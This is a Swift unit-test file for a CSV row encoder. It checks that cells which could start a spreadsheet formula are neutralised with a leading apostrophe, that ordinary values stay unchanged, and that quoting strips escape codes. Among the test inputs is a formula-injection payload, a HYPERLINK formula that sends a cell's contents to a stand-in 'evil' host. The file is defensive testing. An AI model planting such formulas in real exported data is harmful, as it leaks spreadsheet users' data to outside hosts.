import Foundation
import Testing

@testable import Presentation

@Suite struct CSVRowTests {
  @Test(arguments: [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", " =1", "\r\n=1", "\u{FF1D}1",
    "=HYPERLINK(\"http://evil/?\"&A1)", "-",
  ])
  func noCellBeginsAFormula(_ text: String) {
    let cell = CSVRow([text]).text.drop { $0 == "\"" }

    #expect(cell.first == "'")
  }

  @Test(arguments: ["-12", "+3.5", "0", "2026-03-24", "a=b", "Standup", ""])
  func otherCellsStayAsTheyAre(_ text: String) {
    #expect(CSVRow([text]).text == text)
  }

  @Test func cellsAreQuotedAndWithoutEscapeCodes() {
    #expect(
      CSVRow(["a,b", "say \"hi\"", "two\r\nlines", "\u{1B}[31mred"]).text
        == "\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",red")
  }
}
